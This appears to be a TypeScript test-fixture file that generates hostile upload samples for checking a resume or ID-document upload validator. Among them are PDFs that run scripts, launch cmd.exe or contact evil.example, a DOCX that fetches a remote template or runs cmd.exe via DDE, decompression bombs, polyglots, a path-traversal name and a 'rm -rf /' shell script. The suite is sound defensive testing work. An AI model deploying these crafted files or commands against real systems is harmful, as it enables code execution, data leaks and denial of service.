import { crc32, deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import sharp, { type Sharp } from 'sharp'
import { makePdf, objectStream, opening, SCRIPT, stream } from './pdf.ts'
import { bombsInPdfs, hiddenInPdfs } from './pdf-tricks.ts'
import { makeZip, type ZipFile } from './zip.ts'

/** EICAR, the harmless string that virus scanners detect; assembled here so that none flags this file. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join(
  '',
)

/** Noise, so that a picture is as large as one from a camera. */
async function noise(width: number, height: number): Promise<Sharp> {
  const channels = 3
  return sharp({
    create: {
      width,
      height,
      channels,
      background: 'grey',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
}

export async function jpegPicture(width = 320, height = 200): Promise<Buffer> {
  return (await noise(width, height)).jpeg({ quality: 80 }).toBuffer()
}

export async function pngPicture(width = 32, height = 20): Promise<Buffer> {
  return (await noise(width, height)).png().toBuffer()
}

/** A picture as from a phone: rotated by EXIF, with a location and a comment. */
export async function phonePicture(remark: string): Promise<Buffer> {
  return (await noise(320, 200))
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { ImageDescription: remark },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '45/1 30/1 0/1' },
    })
    .toBuffer()
}

/** A PDF as real programs write it: text that mentions forbidden names, links, an opening page. */
export function realPdf(text: string): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument({ info: { Title: 'Resume (HTML/JavaScript/Launch)' } })
    const parts: Buffer[] = []
    document.on('data', (part: Buffer) => parts.push(part))
    document.on('end', () => resolve(Buffer.concat(parts)))
    document.text(text).text('Skills: /JavaScript /OpenAction /Launch', { link: 'https://example.com/me' })
    document.end()
  })
}

export const docxParts = (document = '<w:document/>'): ZipFile[] => [
  {
    name: '[Content_Types].xml',
    data: `<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  },
  { name: 'word/document.xml', data: document },
]
export const relations = (attributes: string): ZipFile => ({
  name: 'word/_rels/document.xml.rels',
  data: `<Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
})
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
export const LINK = relations(
  `Type="${RELATION}/hyperlink" Target="https://example.com" TargetMode="External"`,
)
export const OWN_TEMPLATE = relations(
  `Type="${RELATION}/attachedTemplate" Target="file:///C:\\Users\\maya\\resume.dotx" TargetMode="External"`,
)
const TEMPLATE = relations(
  `Type='${RELATION}/attachedTemplate' Target='https://evil.example/t' TargetMode='&#69;xternal'`,
)

/** A Word 97 document: a container with the given streams, of which the first is at sector 2. */
export function makeDoc(names: readonly string[] = ['WordDocument'], flags = 0): Buffer {
  const header = Buffer.alloc(512)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header)
  header.writeUInt16LE(9, 30)
  header.writeUInt32LE(1, 44)
  header.writeUInt32LE(1, 48)
  header.writeUInt32LE(0xfffffffe, 60)
  header.writeUInt32LE(0xfffffffe, 68)
  header.fill(0xff, 76)
  header.writeUInt32LE(0, 76)
  const table = Buffer.alloc(512, 0xff)
  for (const [index, next] of [0xfffffffd, 0xfffffffe, 0xfffffffe].entries())
    table.writeUInt32LE(next, index * 4)
  const directory = Buffer.alloc(512)
  for (const [index, name] of ['Root Entry', ...names].entries()) {
    directory.write(name, index * 128, 'utf16le')
    directory.writeUInt16LE(name.length * 2 + 2, index * 128 + 64)
    directory.writeUInt32LE(2, index * 128 + 116)
  }
  const word = Buffer.alloc(512)
  word.writeUInt16LE(0xa5ec, 0)
  word.writeUInt16LE(flags, 10)
  return Buffer.concat([header, table, directory, word])
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type), data])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A few kilobytes that declare, and contain, this many pixels. */
export function pngBomb(width: number, height = width): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(1, 8)
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** Files that must be refused as an ID document or resume: description, bytes, and a word of the reason. */
export async function naughtyFiles(): Promise<(readonly [name: string, bytes: Buffer, why: RegExp])[]> {
  const png = await pngPicture()
  const jpeg = await jpegPicture()
  const zip = makeZip([{ name: 'evil.class', data: 'cafebabe' }])
  const attachment = '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'
  return [
    ['nothing at all', Buffer.alloc(0), /empty/],
    [
      'an SVG with a script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      /only upload/,
    ],
    ['a page named .jpg', Buffer.from('<!doctype html><script>alert(1)</script>'), /only upload/],
    ['a shell script', Buffer.from('#!/bin/sh\nrm -rf /\n'), /only upload/],
    ['EICAR', Buffer.from(EICAR), /only upload/],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), /only upload/],
    [
      'a GIFAR',
      Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), zip]),
      /only upload/,
    ],
    ['a WebP', await (await noise(8, 8)).webp().toBuffer(), /only upload/],
    ['a HEIC', Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), /as a JPG/],
    ['half a JPEG', jpeg.subarray(0, jpeg.length / 2), /damaged/],
    ['half a PNG', png.subarray(0, png.length / 2), /damaged/],
    ['a PNG in name only', Buffer.concat([png.subarray(0, 8), Buffer.alloc(500, 7)]), /damaged/],
    ['a PNG bomb', pngBomb(30_000), /megapixels/],
    ['a PNG one pixel high', pngBomb(40_000_000, 1), /30,000 pixels/],
    ['a PNG one pixel wide', pngBomb(1, 40_000_000), /30,000 pixels/],
    ['half a PDF', makePdf().subarray(0, 100), /damaged/],
    ['a PDF header and nonsense', Buffer.from('%PDF-1.7\nnonsense\n%%EOF\n'), /damaged/],
    [
      'a PDF that does not start at the start',
      Buffer.concat([Buffer.from('GIF89a'), makePdf()]),
      /only upload/,
    ],
    ['a PDF with a ZIP behind', Buffer.concat([makePdf(), zip]), /more than one/],
    [
      'a PDF inside a ZIP comment',
      Buffer.concat([makePdf().subarray(0, 60), makeZip([{ name: 'a', data: 'b' }], makePdf().subarray(60))]),
      /more than one/,
    ],
    [
      'a PDF with a page behind',
      Buffer.concat([makePdf(), Buffer.from('<script>alert(1)</script>')]),
      /more than one/,
    ],
    [
      'a PDF with a page at the start',
      Buffer.concat([Buffer.from('%PDF-1.7\n<html><script>1</script>\n'), makePdf().subarray(9)]),
      /more than one/,
    ],
    [
      'a PDF that runs a script when opened',
      makePdf({ catalog: opening('4 0 R'), more: [SCRIPT] }),
      /scripts/,
    ],
    [
      'a PDF whose script is spelled with #',
      makePdf({ catalog: opening('4 0 R'), more: ['<< /S /Java#53cript /#4aS (1) >>'] }),
      /scripts/,
    ],
    [
      'a PDF whose script is in an object stream',
      makePdf({ catalog: opening('9 0 R'), more: [objectStream(9, SCRIPT)] }),
      /scripts/,
    ],
    [
      'a PDF whose script hides inside a stream',
      makePdf({ more: [`<< /Length 80 >>\nstream\n9 0 obj ${SCRIPT} endobj\nendstream`] }),
      /scripts/,
    ],
    [
      'a PDF that starts a program',
      makePdf({ catalog: opening('<< /S /Launch /F (cmd.exe) >>') }),
      /scripts/,
    ],
    [
      'a PDF that calls home when opened',
      makePdf({ catalog: opening('<< /S /URI /URI (https://evil.example) >>') }),
      /scripts/,
    ],
    [
      'a PDF that sends a form',
      makePdf({
        page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>',
      }),
      /scripts/,
    ],
    [
      'a PDF with a script in a link',
      makePdf({ more: ['<< /S /URI /URI (javascript:alert\\(1\\)) >>'] }),
      /scripts/,
    ],
    [
      'a PDF with a file inside',
      makePdf({ more: [attachment, stream('/Type /EmbeddedFile', 'MZ')] }),
      /other files/,
    ],
    ['a PDF with rich media', makePdf({ more: ['<< /Type /Annot /Subtype /RichMedia >>'] }), /scripts/],
    [
      'a PDF with a password',
      makePdf({
        more: ['<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>'],
        trailer: '/Encrypt 4 0 R /ID [(a) (b)]',
      }),
      /password/,
    ],
    [
      'a PDF bomb',
      makePdf({ more: [stream('', '', deflateSync(Buffer.alloc(300_000_000)))] }),
      /larger inside/,
    ],
    [
      'a PDF bomb in a bomb',
      makePdf({
        more: [Buffer.from('<< /Filter [/FlateDecode /FlateDecode] /Length 1 >>\nstream\nx\nendstream')],
      }),
      /larger inside/,
    ],
    ...hiddenInPdfs().map(([name, pdf]) => [`a PDF with ${name}`, pdf, /scripts|damaged/] as const),
    ...bombsInPdfs().map(
      ([name, pdf]) => [`a PDF with a bomb ${name}`, pdf, /larger inside|too complex/] as const,
    ),
    ['a PDF of brackets', makePdf({ more: [`${'['.repeat(200_000)}`] }), /too complex/],
  ]
}

/** Word documents that must be refused as a resume. */
export function naughtyDocuments(): [name: string, bytes: Buffer, why: RegExp][] {
  const with_ = (...files: ZipFile[]) => makeZip([...docxParts(), ...files])
  const big = Buffer.alloc(70 * 1024 * 1024)
  return [
    ['a ZIP', makeZip([{ name: 'a.txt', data: 'a' }]), /only upload/],
    ['a DOCX with macros', with_({ name: 'word/vbaProject.bin', data: 'x' }), /macros/],
    [
      'a DOCX with a program inside',
      with_({ name: 'word/embeddings/oleObject1.bin', data: 'x' }),
      /other files/,
    ],
    ['a DOCX that fetches its template', with_(TEMPLATE), /somewhere else/],
    [
      'a DOCX with a DDE field',
      makeZip(
        docxParts(
          '<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:document>',
        ),
      ),
      /scripts/,
    ],
    ['a DOCX with entities', makeZip(docxParts('<!DOCTYPE x [<!ENTITY a "b">]><w:document/>')), /scripts/],
    ['a DOCX bomb', with_({ name: 'word/media/image1.png', data: big }), /larger inside/],
    [
      'a DOCX bomb that lies',
      with_({ name: 'word/media/image1.png', data: big, claims: { size: 1000 } }),
      /larger inside/,
    ],
    [
      'a DOCX with too many files',
      with_(...Array.from({ length: 1_100 }, (_, index) => ({ name: `word/${index}.xml`, data: '' }))),
      /larger inside/,
    ],
    ['a DOCX with a password', with_({ name: 'word/x.xml', data: '<x/>', claims: { flags: 1 } }), /password/],
    [
      'a DOCX of two minds',
      with_({ name: 'word/x.xml', data: '<x/>', claims: { localName: 'word/y.xml' } }),
      /more than one/,
    ],
    ['a DOCX with a climbing name', with_({ name: '../../etc/passwd', data: 'x' }), /damaged/],
    [
      'a DOCX with something in front',
      Buffer.concat([Buffer.from('PK\x03\x04junk'), makeZip(docxParts())]),
      /damaged/,
    ],
    ['a DOC with macros', makeDoc(['WordDocument', 'Macros']), /macros/],
    ['a DOC with a password', makeDoc(['WordDocument'], 0x0100), /password/],
    ['a DOCX with a password', makeDoc(['EncryptionInfo', 'EncryptedPackage']), /password/],
    ['an Excel file', makeDoc(['Workbook']), /only upload/],
    ['a DOC with a ZIP behind', Buffer.concat([makeDoc(), makeZip(docxParts())]), /more than one/],
  ]
}
